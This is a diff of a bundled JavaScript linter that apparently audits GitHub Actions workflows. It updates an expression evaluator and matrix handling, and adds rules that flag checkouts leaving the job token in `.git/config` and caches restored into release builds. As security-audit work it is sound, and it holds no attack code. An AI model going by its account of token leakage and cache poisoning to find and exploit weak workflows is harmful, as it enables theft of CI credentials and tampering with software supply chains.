-            const prec = t.t === 'op' ? PREC[t.v] : undefined;
-            if (prec === undefined || prec <= min - 1 || prec < min)
-                return left;
-            next();
-            const right = binary(prec + 1);
-            left = { k: 'bin', op: t.v, a: left, b: right };
-        }
-    };
-    const e = binary(0);
-    if (peek().t !== 'end')
-        throw new ExprError(`unexpected '${peek().v}' at ${peek().pos}`);
-    return e;
+    if (src.length > MAX_EXPRESSION)
+        throw new ExprError(`expression longer than ${MAX_EXPRESSION} characters`);
+    let tree;
+    try {
+        const { tokens } = new lexer_Lexer(src).lex();
+        tree = new parser_Parser(tokens, CONTEXTS, FUNCTIONS).parse();
+    }
+    catch (e) {
+        throw new ExprError(e.message);
+    }
+    if (!tree)
+        throw new ExprError('empty expression');
+    return convert(tree, false);
 }
 /** Every `${{ … }}` in a text, with its offset and inner text. */
 function findExpressions(text) {
@@ -32306,34 +34681,22 @@ function contextRefs(e) {
 }
 const UNKNOWN = { t: 'unknown' };
 const known = (v) => ({ t: 'known', v });
-function truthy(v) {
+/** GitHub's truthiness (the library's), with unknown kept unknown. */
+function expr_truthy(v) {
     if (v.t === 'prefix')
         return v.p !== '' ? true : 'unknown';
     if (v.t === 'oneOf')
         return v.vs.every((x) => x !== '') ? true : 'unknown';
     if (v.t === 'unknown')
         return 'unknown';
-    const x = v.v;
-    return !(x === null || x === false || x === 0 || x === '' || (typeof x === 'number' && Number.isNaN(x)));
+    return result_truthy(toData(v.v));
 }
 function fromTri(t) {
     return t === 'unknown' ? UNKNOWN : known(t);
 }
 function eq(a, b) {
-    if (a.t === 'known' && b.t === 'known') {
-        const x = a.v;
-        const y = b.v;
-        if (typeof x === 'string' && typeof y === 'string')
-            return x.toLowerCase() === y.toLowerCase();
-        if (x === null || y === null)
-            return x === y;
-        if (typeof x === typeof y)
-            return x === y;
-        // GitHub coerces mismatched types to numbers
-        const nx = Number(x === true ? 1 : x === false ? 0 : x);
-        const ny = Number(y === true ? 1 : y === false ? 0 : y);
-        return nx === ny;
-    }
+    if (a.t === 'known' && b.t === 'known')
+        return result_equals(toData(a.v), toData(b.v));
     const [o, ok] = a.t === 'oneOf' ? [a, b] : b.t === 'oneOf' ? [b, a] : [undefined, undefined];
     if (o && o.t === 'oneOf' && ok && ok.t === 'known') {
         if (typeof ok.v !== 'string')
@@ -32350,7 +34713,7 @@ function eq(a, b) {
     return 'unknown';
 }
 function expr_str(v) {
-    return v.t === 'known' ? (v.v === null ? '' : String(v.v)) : undefined;
+    return v.t === 'known' && (v.v === null || typeof v.v !== 'object') ? (v.v === null ? '' : String(v.v)) : undefined;
 }
 function call(fn, args) {
     switch (fn) {
@@ -32359,43 +34722,49 @@ function call(fn, args) {
         case 'success':
         case 'failure':
         case 'cancelled':
+        case 'hashfiles':
             return UNKNOWN;
-        case 'startswith':
-        case 'endswith':
-        case 'contains': {
-            const [a, b] = args;
-            if (!a || !b)
-                return UNKNOWN;
-            const sa = expr_str(a);
-            const sb = expr_str(b);
-            if (sa !== undefined && sb !== undefined) {
-                const x = sa.toLowerCase();
-                const y = sb.toLowerCase();
-                return known(fn === 'startswith' ? x.startsWith(y) : fn === 'endswith' ? x.endsWith(y) : x.includes(y));
-            }
-            if (fn === 'startswith' && a.t === 'prefix' && sb !== undefined) {
-                const p = a.p.toLowerCase();
-                const y = sb.toLowerCase();
-                if (p.startsWith(y))
-                    return known(true);
-                if (!y.startsWith(p))
-                    return known(false);
-                return UNKNOWN;
-            }
-            if (fn === 'contains' && a.t === 'prefix' && sb !== undefined && a.p.toLowerCase().includes(sb.toLowerCase()))
-                return known(true);
-            return UNKNOWN;
-        }
-        case 'format': {
-            const [f, ...rest] = args;
-            const fs = f ? expr_str(f) : undefined;
-            if (fs === undefined || rest.some((r) => expr_str(r) === undefined))
-                return UNKNOWN;
-            return known(fs.replace(/\{(\d+)\}/g, (_m, n) => expr_str(rest[Number(n)]) ?? ''));
-        }
         default:
-            return UNKNOWN;
     }
+    const f = funcs_wellKnownFunctions[fn];
+    if (f && args.every((a) => a.t === 'known')) {
+        try {
+            return known(fromData(f.call(...args.map((a) => toData(a.v)))));
+        }
+        catch {
+            // GitHub fails the step on an error (bad JSON in fromJSON): nothing is known
+            return UNKNOWN;
+        }
+    }
+    // partly known: what a known prefix decides
+    const [a, b] = args;
+    const sb = b ? expr_str(b) : undefined;
+    if (fn === 'startswith' && a?.t === 'prefix' && sb !== undefined) {
+        const p = a.p.toLowerCase();
+        const y = sb.toLowerCase();
+        if (p.startsWith(y))
+            return known(true);
+        if (!y.startsWith(p))
+            return known(false);
+        return UNKNOWN;
+    }
+    if (fn === 'contains' && a?.t === 'prefix' && sb !== undefined && a.p.toLowerCase().includes(sb.toLowerCase()))
+        return known(true);
+    if (fn === 'contains' && a?.t === 'oneOf' && sb !== undefined) {
+        const hits = a.vs.filter((x) => x.toLowerCase().includes(sb.toLowerCase())).length;
+        return hits === 0 ? known(false) : hits === a.vs.length ? known(true) : UNKNOWN;
+    }
+    return UNKNOWN;
+}
+/** Index into a known value, as GitHub does (object keys case-insensitive; missing is null). */
+function indexInto(obj, key) {
+    if (Array.isArray(obj))
+        return typeof key === 'number' && Number.isInteger(key) && key >= 0 && key < obj.length ? known(obj[key]) : known(null);
+    if (obj && typeof obj === 'object' && typeof key === 'string') {
+        const k = Object.keys(obj).find((x) => x.toLowerCase() === key.toLowerCase());
+        return known(k === undefined ? null : obj[k]);
+    }
+    return known(null);
 }
 function evaluate(e, resolve) {
     switch (e.k) {
@@ -32405,35 +34774,46 @@ function evaluate(e, resolve) {
         case 'prop':
         case 'index': {
             const p = refPath(e);
-            return p === undefined ? UNKNOWN : resolve(p);
+            if (p !== undefined && !p.endsWith('[]'))
+                return resolve(p);
+            if (e.k === 'ctx')
+                return UNKNOWN;
+            // a property of a computed value: fromJSON('{...}').x, a matrix leg's list
+            const o = evaluate(e.obj, resolve);
+            if (o.t !== 'known')
+                return UNKNOWN;
+            if (e.k === 'prop')
+                return e.key === '*' ? UNKNOWN : indexInto(o.v, e.key);
+            const i = evaluate(e.index, resolve);
+            return i.t === 'known' ? indexInto(o.v, i.v) : UNKNOWN;
         }
         case 'call':
             return call(e.fn, e.args.map((a) => evaluate(a, resolve)));
         case 'not': {
-            const t = truthy(evaluate(e.e, resolve));
+            const t = expr_truthy(evaluate(e.e, resolve));
             return fromTri(t === 'unknown' ? 'unknown' : !t);
         }
         case 'bin': {
             // GitHub's && and || return an operand, not a boolean: `a && 'x' || b`.
             if (e.op === '&&') {
                 const av = evaluate(e.a, resolve);
-                const a = truthy(av);
+                const a = expr_truthy(av);
                 if (a === false)
                     return av;
                 const bv = evaluate(e.b, resolve);
                 if (a === true)
                     return bv;
-                return truthy(bv) === false ? known(false) : UNKNOWN;
+                return expr_truthy(bv) === false ? known(false) : UNKNOWN;
             }
             if (e.op === '||') {
                 const av = evaluate(e.a, resolve);
-                const a = truthy(av);
+                const a = expr_truthy(av);
                 if (a === true)
                     return av;
                 const bv = evaluate(e.b, resolve);
                 if (a === false)
                     return bv;
-                return truthy(bv) === true ? known(true) : UNKNOWN;
+                return expr_truthy(bv) === true ? known(true) : UNKNOWN;
             }
             const a = evaluate(e.a, resolve);
             const b = evaluate(e.b, resolve);
@@ -32444,9 +34824,10 @@ function evaluate(e, resolve) {
                 return fromTri(r === 'unknown' ? 'unknown' : !r);
             }
             if (a.t === 'known' && b.t === 'known') {
-                const x = Number(a.v);
-                const y = Number(b.v);
-                return known(e.op === '<' ? x < y : e.op === '<=' ? x <= y : e.op === '>' ? x > y : x >= y);
+                const x = toData(a.v);
+                const y = toData(b.v);
+                const r = e.op === '<' ? result_lessThan(x, y) : e.op === '<=' ? result_lessThan(x, y) || result_equals(x, y) : e.op === '>' ? result_greaterThan(x, y) : result_greaterThan(x, y) || result_equals(x, y);
+                return known(r);
             }
             return UNKNOWN;
         }
@@ -32457,16 +34838,18 @@ function evaluate(e, resolve) {
  * `${{ }}` is a non-empty string, which GitHub treats as true.
  */
 function evaluateCondition(text, resolve) {
-    let src = text.trim();
+    // Not trimmed: a block scalar (`if: |`) ends in a newline, which makes the value a string
+    // with text outside `${{ }}` — and a non-empty string is true.
+    let src = text;
     const exprs = findExpressions(src);
     if (exprs.length === 1 && exprs[0].full === src)
         src = exprs[0].inner;
     else if (exprs.length > 0)
         return true;
-    if (src === '')
+    if (src.trim() === '')
         return true;
     try {
-        return truthy(evaluate(parseExpr(src), resolve));
+        return expr_truthy(evaluate(parseExpr(src), resolve));
     }
     catch {
         return 'unknown';
@@ -32475,6 +34858,338 @@ function evaluateCondition(text, resolve) {
 /** Does the condition use a status function other than success()? (then it runs even when needs were skipped) */
 function usesStatusFunction(text) {
     return /\b(always|failure|cancelled)\s*\(/i.test(text);
+}
+
+;// CONCATENATED MODULE: ./src/workflow/matrix.ts
+
+
+const MAX_LEGS = 256;
+function same(a, b) {
+    return JSON.stringify(a) === JSON.stringify(b);
+}
+function matrixLegs(job) {
+    const m = get(job.strategy, 'matrix');
+    if (!m)
+        return [{}];
+    const raw = toJS(m);
+    if (!raw || typeof raw !== 'object' || Array.isArray(raw))
+        return undefined;
+    const obj = raw;
+    let legs = [{}];
+    const base = [];
+    for (const [k, v] of Object.entries(obj)) {
+        if (k === 'include' || k === 'exclude')
+            continue;
+        if (!Array.isArray(v))
+            return undefined; // an expression (fromJSON) or a malformed matrix
+        base.push(k);
+        const next = [];
+        for (const l of legs)
+            for (const x of v)
+                next.push({ ...l, [k]: x });
+        if (next.length > MAX_LEGS)
+            return undefined;
+        legs = next;
+    }
+    if (base.length === 0)
+        legs = [];
+    const exclude = obj.exclude;
+    if (Array.isArray(exclude)) {
+        legs = legs.filter((l) => !exclude.some((e) => e && typeof e === 'object' && Object.entries(e).every(([k, v]) => same(l[k], v))));
+    }
+    const include = obj.include;
+    if (Array.isArray(include)) {
+        for (const inc of include) {
+            if (!inc || typeof inc !== 'object')
+                continue;
+            const e = inc;
+            const matching = legs.filter((l) => Object.entries(e).every(([k, v]) => !base.includes(k) || same(l[k], v)));
+            const extendable = matching.filter((l) => Object.keys(e).every((k) => !(k in l) || base.includes(k) || same(l[k], e[k])));
+            if (base.length > 0 && extendable.length > 0)
+                for (const l of extendable)
+                    Object.assign(l, e);
+            else
+                legs.push({ ...e });
+            if (legs.length > MAX_LEGS)
+                return undefined;
+        }
+    }
+    return legs.length ? legs : [{}];
+}
+/** Resolve `matrix.*` against one leg; everything else unknown. */
+function legResolver(leg) {
+    return (path) => {
+        if (!path.startsWith('matrix.'))
+            return UNKNOWN;
+        let v = leg;
+        for (const part of path.slice(7).split('.')) {
+            // matrix keys are case-insensitive to GitHub, as every context's properties
+            const key = v && typeof v === 'object' ? Object.keys(v).find((k) => k.toLowerCase() === part.toLowerCase()) : undefined;
+            if (key === undefined)
+                return v === leg ? known(null) : UNKNOWN;
+            v = v[key];
+        }
+        if (v === null || typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean')
+            return known(v);
+        if (typeof v === 'object' && !String(JSON.stringify(v)).includes('${{'))
+            return known(v);
+        return UNKNOWN;
+    };
+}
+/**
+ * The value of a text with `${{ }}` in one leg: the expression's value when the text is one
+ * expression, else the text with each expression replaced. Undefined when unknown.
+ */
+function evalText(text, resolve) {
+    const ex = findExpressions(text);
+    if (ex.length === 0)
+        return text;
+    try {
+        if (ex.length === 1 && ex[0].full === text.trim()) {
+            const v = evaluate(parseExpr(ex[0].inner), resolve);
+            return v.t === 'known' ? v.v : undefined;
+        }
+        let out = '';
+        let last = 0;
+        for (const e of ex) {
+            const v = evaluate(parseExpr(e.inner), resolve);
+            if (v.t !== 'known' || (v.v !== null && typeof v.v === 'object'))
+                return undefined;
+            out += text.slice(last, e.offset) + (v.v === null ? '' : String(v.v));
+            last = e.offset + e.full.length;
+        }
+        return out + text.slice(last);
+    }
+    catch {
+        return undefined;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/workflow/sites.ts
+
+
+
+/** The runner's own limit of nested composite actions. */
+const MAX_COMPOSITE_DEPTH = 9;
+function localAction(local, path) {
+    const p = path.replace(/^\.?\/+/, '').replace(/\/+$/, '');
+    return local.get(`${p}/action.yml`) ?? local.get(`${p}/action.yaml`);
+}
+function jobSites(wf, scope, local) {
+    const targets = new Set(scope.targets.map((j) => j.id));
+    const out = [];
+    const visit = (job, file, chain, target, depth) => {
+        out.push({ job, wf: file, chain, target });
+        const u = job.uses?.parsed;
+        if (u && u.kind === 'local' && u.reusableWorkflow && depth < MAX_COMPOSITE_DEPTH) {
+            const called = local.get(u.path);
+            if (called && called !== file)
+                for (const j of called.jobs)
+                    visit(j, called, [...chain, job.id, job.uses.value], target, depth + 1);
+        }
+    };
+    for (const j of scope.jobs)
+        visit(j, wf, [], targets.has(j.id), 0);
+    return out;
+}
+/** A resolver that answers `inputs.*` from a composite's bindings, and the rest from `base`. */
+function withInputs(base, inputs) {
+    if (!inputs)
+        return base;
+    return (path) => {
+        if (!path.startsWith('inputs.'))
+            return base(path);
+        const v = inputs.get(path.slice(7).toLowerCase());
+        return v ?? known('');
+    };
+}
+/** What a composite's inputs are, as the calling step binds them. */
+function bindInputs(action, step, outer) {
+    const m = new Map();
+    const decl = get(action.yaml.root, 'inputs');
+    if (decl && decl.kind === 'map') {
+        for (const p of decl.pairs) {
+            const d = get(p.value, 'default');
+            const text = d && d.kind === 'scalar' ? (d.value === null ? '' : String(d.value)) : '';
+            // a default may itself be an expression (`${{ github.token }}`): unknown before the run
+            m.set(String(p.key.value).toLowerCase(), text.includes('${{') ? UNKNOWN : known(text));
+        }
+    }
+    for (const [k, node] of step.with) {
+        if (node.kind !== 'scalar') {
+            m.set(k.toLowerCase(), UNKNOWN);
+            continue;
+        }
+        const text = node.value === null ? '' : String(node.value);
+        if (!text.includes('${{')) {
+            m.set(k.toLowerCase(), known(text));
+            continue;
+        }
+        // only what the outer composite's own inputs decide can be known here
+        const v = evalText(text, withInputs(() => UNKNOWN, outer));
+        m.set(k.toLowerCase(), v === undefined ? UNKNOWN : known(v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v)));
+    }
+    return m;
+}
+function stepSites(site, local) {
+    const out = [];
+    const visit = (steps, file, chain, top, depth, inputs) => {
+        for (const step of steps) {
+            const t = top ?? step;
+            out.push({ job: site.job, step, wf: file, chain, target: site.target, top: { job: site.job, step: t }, ...(inputs ? { inputs } : {}) });
+            const u = step.uses?.parsed;
+            if (u && u.kind === 'local' && !u.reusableWorkflow && depth < MAX_COMPOSITE_DEPTH) {
+                const action = localAction(local, u.path);
+                if (action && action.runs?.using === 'composite' && action !== file) {
+                    visit(action.jobs[0]?.steps ?? [], action, [...chain, ...(chain.length ? [] : [site.job.id]), step.uses.value], t, depth + 1, bindInputs(action, step, inputs));
+                }
+            }
+        }
+    };
+    visit(site.job.steps, site.wf, site.chain, undefined, 0, undefined);
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/audits/artipacked.ts
+/**
+ * artipacked: `actions/checkout` leaves the job's token in `.git/config` unless told not to.
+ * Every later step of the job can read it, and an artifact of the workspace carries it out
+ * (Unit 42, "ArtiPACKED", 2024).
+ */
+
+
+
+
+/** Does this upload carry the workspace root (and so `.git/`)? */
+function uploadsWorkspace(s) {
+    const paths = (input(s.step, 'path') ?? '').split('\n').map((p) => p.trim()).filter(Boolean);
+    const root = paths.some((p) => /^(\.\/?|\*+|\$\{\{\s*github\.workspace\s*\}\}\/?|\.git(\/.*)?|\$GITHUB_WORKSPACE\/?)$/.test(p));
+    if (!root)
+        return false;
+    // upload-artifact v4.4+ leaves hidden files (.git) out unless include-hidden-files: true
+    const v = versionOf(s.step, s.wf);
+    return isTrue(input(s.step, 'include-hidden-files')) || v === undefined || v < 4;
+}
+const rule = {
+    id: 'artipacked',
+    title: 'checkout leaves the token in the workspace',
+    severity: 'warning',
+    check(ctx) {
+        const out = [];
+        for (const site of jobSites(ctx.workflow, ctx.scope, ctx.local)) {
+            const steps = stepSites(site, ctx.local);
+            const packs = steps.filter((s) => isAction(s.step, 'actions/upload-artifact') && uploadsWorkspace(s));
+            for (const s of steps) {
+                if (!isAction(s.step, 'actions/checkout'))
+                    continue;
+                const pc = input(s.step, 'persist-credentials');
+                if (isFalse(pc))
+                    continue;
+                const expr = pc !== undefined && pc.includes('${{');
+                out.push(ctx.finding({
+                    message: packs.length
+                        ? `${code(s.step.uses.value)} keeps the token in \`.git/config\`, and ${code(packs[0].step.uses.value)} uploads the workspace with it`
+                        : `${code(s.step.uses.value)} keeps the token in \`.git/config\` for every later step of job ${code(site.job.id)}${expr ? ` (persist-credentials is ${code(pc)})` : ''}`,
+                    fix: 'Add `with: { persist-credentials: false }` to the checkout; a step that must push can be given the token explicitly.',
+                    ...atStep(s, s.step.uses.pos),
+                    ...(packs.length ? { severity: 'error' } : {}),
+                }));
+            }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./src/workflow/publish.ts
+
+const publishes = new WeakMap();
+/** What a step publishes (memoised per step: several rules ask). */
+function stepPublishes(step) {
+    let v = publishes.get(step);
+    if (v === undefined) {
+        v = detectPublish(step) ?? null;
+        publishes.set(step, v);
+    }
+    return v ?? undefined;
+}
+/** A `--dry-run` (or `-n`) on the publishing line: a rehearsal. */
+const DRY_RUN = /(?:^|\s)(?:--dry-run|-n)(?:\s|$)/;
+function detectPublish(step) {
+    const f = factsOf(step);
+    if (f?.publishes) {
+        if (!holds(f.publishes.when, step))
+            return undefined;
+        if (holds({ set: 'dry-run' }, step, false))
+            return undefined;
+        return { registry: f.publishes.registry, evidence: step.uses.value, step };
+    }
+    const run = runText(step);
+    if (!run)
+        return undefined;
+    for (const c of stepCommands(step)) {
+        if (!c.publishes)
+            continue;
+        // a dry run of this very command publishes nothing
+        const lines = logicalLines(run).filter((l) => c.re.test(l));
+        if (lines.length && lines.every((l) => DRY_RUN.test(l) || (c.rehearsal?.test(l) ?? false)))
+            continue;
+        return { registry: c.publishes, evidence: c.label, step };
+    }
+    return undefined;
+}
+/** A publish to a test index (TestPyPI): a rehearsal, not a release. */
+function isTestPublish(step) {
+    const f = factsOf(step);
+    if (f?.testIndex)
+        return holds(f.testIndex, step, false);
+    const url = input(step, 'repository-url') ?? input(step, 'repository_url') ?? '';
+    if (/test\.pypi\.org/i.test(url))
+        return true;
+    const run = runText(step) ?? '';
+    return /\b(twine\s+upload|uv\s+publish|poetry\s+publish|hatch\s+publish)\b(?:(?!\b(?:twine|uv|poetry|hatch)\s)[^\n])*(test\.pypi\.org|(-r|--repository|--index|--repo)[ =]testpypi)/i.test(run);
+}
+/**
+ * A publish nobody outside the project sees: a test index, or a command whose every
+ * publishing line is a rehearsal or unseen by the catalogue (`gh release create --draft`).
+ */
+function isRehearsal(step) {
+    if (isTestPublish(step))
+        return true;
+    const run = runText(step);
+    if (!run)
+        return false;
+    const cmds = stepCommands(step).filter((c) => c.publishes);
+    if (!cmds.length)
+        return false;
+    return cmds.every((c) => {
+        const lines = run.split(/\r?\n/).filter((l) => c.re.test(l));
+        return lines.length > 0 && lines.every((l) => DRY_RUN.test(l) || !!c.rehearsal?.test(l) || !!c.unseen?.test(l));
+    });
+}
+/** The effective `id-token` permission of a job: its own block, else the workflow's. */
+function hasIdTokenWrite(wf, job) {
+    const p = job.permissions ?? wf.permissions;
+    if (!p)
+        return false;
+    if (p.kind === 'write-all')
+        return true;
+    return p.scopes.get('id-token')?.value === 'write';
+}
+/**
+ * What a job publishes, from its steps. `id-token: write` alone does not make a job a
+ * publishing one: scorecard, cloud deploys and bots hold it too.
+ */
+function publishSignals(_wf, job) {
+    const out = [];
+    for (const s of job.steps) {
+        const sig = stepPublishes(s);
+        if (sig)
+            out.push(sig);
+    }
+    return out;
+}
+function isPublishingJob(wf, job) {
+    return publishSignals(wf, job).length > 0;
 }
 
 ;// CONCATENATED MODULE: ./src/workflow/triggers.ts
@@ -32501,13 +35216,13 @@ const PAYLOAD = {
 };
 PAYLOAD.pull_request_target = PAYLOAD.pull_request;
 /** The `action` values an event can have (docs.github.com, "Events that trigger workflows"). */
-const ACTIONS = {
+const triggers_ACTIONS = {
     pull_request: ['assigned', 'unassigned', 'labeled', 'unlabeled', 'opened', 'edited', 'closed', 'reopened', 'synchronize', 'converted_to_draft', 'ready_for_review', 'locked', 'unlocked', 'review_requested', 'review_request_removed', 'auto_merge_enabled', 'auto_merge_disabled', 'milestoned', 'demilestoned', 'enqueued', 'dequeued'],
     release: ['published', 'unpublished', 'created', 'edited', 'deleted', 'prereleased', 'released'],
     workflow_run: ['requested', 'in_progress', 'completed'],
     issue_comment: ['created', 'edited', 'deleted'],
 };
-ACTIONS.pull_request_target = ACTIONS.pull_request;
+triggers_ACTIONS.pull_request_target = triggers_ACTIONS.pull_request;
 const PR_EVENTS = new Set(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment']);
 function stringList(node) {
     if (!node)
@@ -32559,7 +35274,7 @@ function occasions(wf) {
     for (const t of wf.triggers) {
         const cfg = t.config;
         const types = stringList(get(cfg, 'types'));
-        const all = ACTIONS[t.event];
+        const all = triggers_ACTIONS[t.event];
         const action = types && types.length === 1 ? known(types[0]) : types && types.length ? { t: 'oneOf', vs: types } : all ? { t: 'oneOf', vs: all } : UNKNOWN;
         if (t.event === 'push') {
             const branches = stringList(get(cfg, 'branches'));
@@ -32611,30 +35326,77 @@ function occasions(wf) {
     }
     return out;
 }
-/** Can the job run on this occasion? Follows its `needs` chain: a skipped need skips it. */
+/**
+ * Can the job run on this occasion? Follows its `needs` chain: a skipped need skips it.
+ * Iterative (a topological order over the jobs it needs), so a chain of thousands of jobs
+ * needs no stack; jobs in a `needs` cycle are undecided. `seen` memoises across calls.
+ */
 function jobReachable(wf, job, occ, seen = new Map()) {
     const memo = seen.get(job.id);
     if (memo !== undefined)
         return memo;
-    seen.set(job.id, 'unknown'); // cycles: undecided
-    const c = job.if ? evaluateCondition(job.if.value, occ.resolve) : true;
-    let result = c;
-    if (c !== false) {
-        const runsAfterSkips = !!job.if && usesStatusFunction(job.if.value);
-        for (const n of job.needs) {
-            const dep = wf.jobs.find((j) => j.id === n.value);
-            if (!dep)
-                continue;
-            const r = jobReachable(wf, dep, occ, seen);
-            if (r === false && !runsAfterSkips) {
-                result = false;
-                break;
-            }
-            if (r === 'unknown' && result === true)
-                result = 'unknown';
+    const byId = new Map(wf.jobs.map((j) => [j.id, j]));
+    // the jobs this one needs, transitively, that are not decided yet
+    const todo = new Map();
+    const stack = [job];
+    while (stack.length) {
+        const j = stack.pop();
+        if (todo.has(j.id) || seen.has(j.id))
+            continue;
+        todo.set(j.id, j);
+        for (const n of j.needs) {
+            const d = byId.get(n.value);
+            if (d)
+                stack.push(d);
         }
     }
-    seen.set(job.id, result);
+    const pending = new Map();
+    const dependents = new Map();
+    for (const j of todo.values()) {
+        let k = 0;
+        for (const n of j.needs) {
+            if (!todo.has(n.value))
+                continue;
+            k++;
+            const l = dependents.get(n.value) ?? [];
+            l.push(j);
+            dependents.set(n.value, l);
+        }
+        pending.set(j.id, k);
+    }
+    const queue = [...todo.values()].filter((j) => pending.get(j.id) === 0);
+    for (let qi = 0; qi < queue.length; qi++) {
+        const j = queue[qi];
+        seen.set(j.id, decide(wf, j, occ, byId, seen));
+        for (const d of dependents.get(j.id) ?? []) {
+            const left = pending.get(d.id) - 1;
+            pending.set(d.id, left);
+            if (left === 0)
+                queue.push(d);
+        }
+    }
+    // what is left is in a cycle (or needs one): undecided unless its own condition is false
+    for (const j of todo.values())
+        if (!seen.has(j.id))
+            seen.set(j.id, j.if && evaluateCondition(j.if.value, occ.resolve) === false ? false : 'unknown');
+    return seen.get(job.id);
+}
+/** One job, once the jobs it needs are decided. */
+function decide(wf, job, occ, byId, seen) {
+    const c = job.if ? evaluateCondition(job.if.value, occ.resolve) : true;
+    if (c === false)
+        return false;
+    let result = c;
+    const runsAfterSkips = !!job.if && usesStatusFunction(job.if.value);
+    for (const n of job.needs) {
+        if (!byId.has(n.value))
+            continue;
+        const r = seen.get(n.value) ?? 'unknown';
+        if (r === false && !runsAfterSkips)
+            return false;
+        if (r === 'unknown' && result === true)
+            result = 'unknown';
+    }
     return result;
 }
 function stepReachable(wf, job, step, occ) {
@@ -32656,96 +35418,282 @@ function reachingOccasions(wf, job) {
  * cache-poisoning: a cache restored into a release build runs whatever the cache holds. Any
  * workflow on the default branch can write those caches — the Ultralytics releases of
  * December 2024 were built from one.
+ *
+ * What restores, through which input or environment variable, and by default from which
+ * version, is the catalogue's (`CacheFacts`). Here it is read on each occasion that can reach
+ * the job (and each leg of its matrix): a toggle written as an expression is evaluated there.
  */
 
 
 
 
 
+
+
+
+
+const DANGER = { on: 3, unknown: 2, conditional: 1, off: 0 };
 function withPos(s, key) {
-    return s.step.with.get(key)?.pos ?? s.step.uses.pos;
+    return withNode(s.step, key)?.pos ?? s.step.uses.pos;
 }
-/** Events on which setup-uv's `enable-cache: auto` leaves the cache off (its action.yml). */
-const UV_AUTO_OFF = (o) => o.event === 'release' || (o.event === 'push' && o.refKind === 'tag') || o.event === 'pull_request_target' || o.event === 'workflow_run';
-function judge(s, wf) {
-    const a = actionOf(s.step);
-    const repo = actionRepo(s.step);
-    if (!a || !repo)
+function scalarText(n) {
+    if (!n)
         return undefined;
-    const set = (k) => {
-        const v = input(s.step, k);
-        return v !== undefined && v.trim() !== '' && !isFalse(v);
-    };
-    switch (repo) {
-        case 'actions/cache':
-            if (a === 'actions/cache/save')
-                return undefined;
-            return { how: 'certain', why: 'restores a cache', at: s.step.uses.pos, off: 'Remove the cache step from the release jobs.' };
-        case 'actions/setup-python':
-        case 'actions/setup-java':
-        case 'actions/setup-dotnet':
-            if (set('cache'))
-                return { how: 'certain', why: `restores the ${input(s.step, 'cache')} cache`, at: withPos(s, 'cache'), off: 'Remove `cache:`.' };
-            return undefined;
-        case 'actions/setup-node': {
-            if (set('cache'))
-                return { how: 'certain', why: `restores the ${input(s.step, 'cache')} cache`, at: withPos(s, 'cache'), off: 'Remove `cache:` and set `package-manager-cache: false`.' };
-            const v = versionOf(s.step, s.wf);
-            if ((v === undefined || v >= 5) && !isFalse(input(s.step, 'package-manager-cache'))) {
-                return { how: 'conditional', why: 'caches by default (v5+) when package.json names a `packageManager`', at: s.step.uses.pos, off: 'Set `package-manager-cache: false`.' };
-            }
-            return undefined;
-        }
-        case 'actions/setup-go':
-            if (!isFalse(input(s.step, 'cache')))
-                return { how: 'certain', why: 'restores the Go module cache (on by default)', at: withPos(s, 'cache'), off: 'Set `cache: false`.' };
-            return undefined;
-        case 'ruby/setup-ruby':
-            if (isTrue(input(s.step, 'bundler-cache')))
-                return { how: 'certain', why: 'restores the bundler cache', at: withPos(s, 'bundler-cache'), off: 'Set `bundler-cache: false`.' };
-            return undefined;
-        case 'astral-sh/setup-uv': {
-            const v = input(s.step, 'enable-cache');
-            if (isTrue(v))
-                return { how: 'certain', why: 'restores the uv cache', at: withPos(s, 'enable-cache'), off: 'Set `enable-cache: false`.' };
-            if (isFalse(v) || (v !== undefined && v !== 'auto' && !v.includes('${{')))
-                return undefined;
-            const ver = versionOf(s.step, s.wf);
-            if (ver !== undefined && ver < 6 && v === undefined)
-                return undefined;
-            if (wf.kind !== 'workflow')
-                return { how: 'conditional', why: 'caches by default on most events', at: s.step.uses.pos, off: 'Set `enable-cache: false`.' };
-            const on = occasions(wf).filter((o) => !UV_AUTO_OFF(o) && jobReachable(wf, s.top.job, o) !== false);
-            if (on.length)
-                return { how: 'certain', why: `caches by default (\`enable-cache: auto\`) on ${on[0].label}`, at: s.step.uses.pos, off: 'Set `enable-cache: false`.' };
-            return undefined;
-        }
-        case 'swatinem/rust-cache':
-            return { how: 'certain', why: 'restores the Cargo cache', at: s.step.uses.pos, off: 'Remove the step from the release jobs.' };
-        case 'jdx/mise-action':
-            if (!isFalse(input(s.step, 'cache')))
-                return { how: 'certain', why: 'restores the mise cache (on by default)', at: withPos(s, 'cache'), off: 'Set `cache: false`.' };
-            return undefined;
-        case 'prefix-dev/setup-pixi': {
-            const c = input(s.step, 'cache');
-            if (isTrue(c))
-                return { how: 'certain', why: 'restores the pixi environment cache', at: withPos(s, 'cache'), off: 'Set `cache: false`.' };
-            if (c === undefined)
-                return { how: 'conditional', why: 'caches the pixi environment by default when pixi.lock exists', at: s.step.uses.pos, off: 'Set `cache: false`.' };
-            return undefined;
-        }
-        case 'gradle/actions':
-        case 'gradle/gradle-build-action':
-            if (!isTrue(input(s.step, 'cache-disabled')))
-                return { how: 'certain', why: 'restores the Gradle cache (on by default)', at: s.step.uses.pos, off: 'Set `cache-disabled: true`.' };
-            return undefined;
-        case 'docker/build-push-action':
-            if (set('cache-from'))
-                return { how: 'certain', why: `builds from the cache ${code(input(s.step, 'cache-from').trim())}`, at: withPos(s, 'cache-from'), off: 'Remove `cache-from:`.' };
-            return undefined;
-        default:
-            return undefined;
+    if (n.kind !== 'scalar')
+        return '';
+    return n.value === null ? '' : String(n.value);
+}
+/** A value in one context: its text, or undefined when it cannot be told before the run. */
+function valueAt(text, x) {
+    if (!text.includes('${{'))
+        return text;
+    const v = evalText(text, x.resolve);
+    if (v === undefined)
+        return undefined;
+    return v === null ? '' : String(v);
+}
+/** Truth of a boolean-like value in one context. */
+function truth(text, x) {
+    if (text === undefined)
+        return undefined;
+    const v = valueAt(text, x);
+    if (v === undefined)
+        return 'unknown';
+    if (v.trim() === '')
+        return undefined;
+    return isTrue(v) ? true : isFalse(v) ? false : undefined;
+}
+/**
+ * The contexts a step can run in and matter: occasions on which the step and a guarded job
+ * both run (a build whose run publishes nothing poisons no release), × matrix legs.
+ */
+function contexts(s, wf, targets) {
+    const out = contextsOf(s, wf, targets);
+    // inside a composite action, `inputs.*` are what the calling step binds
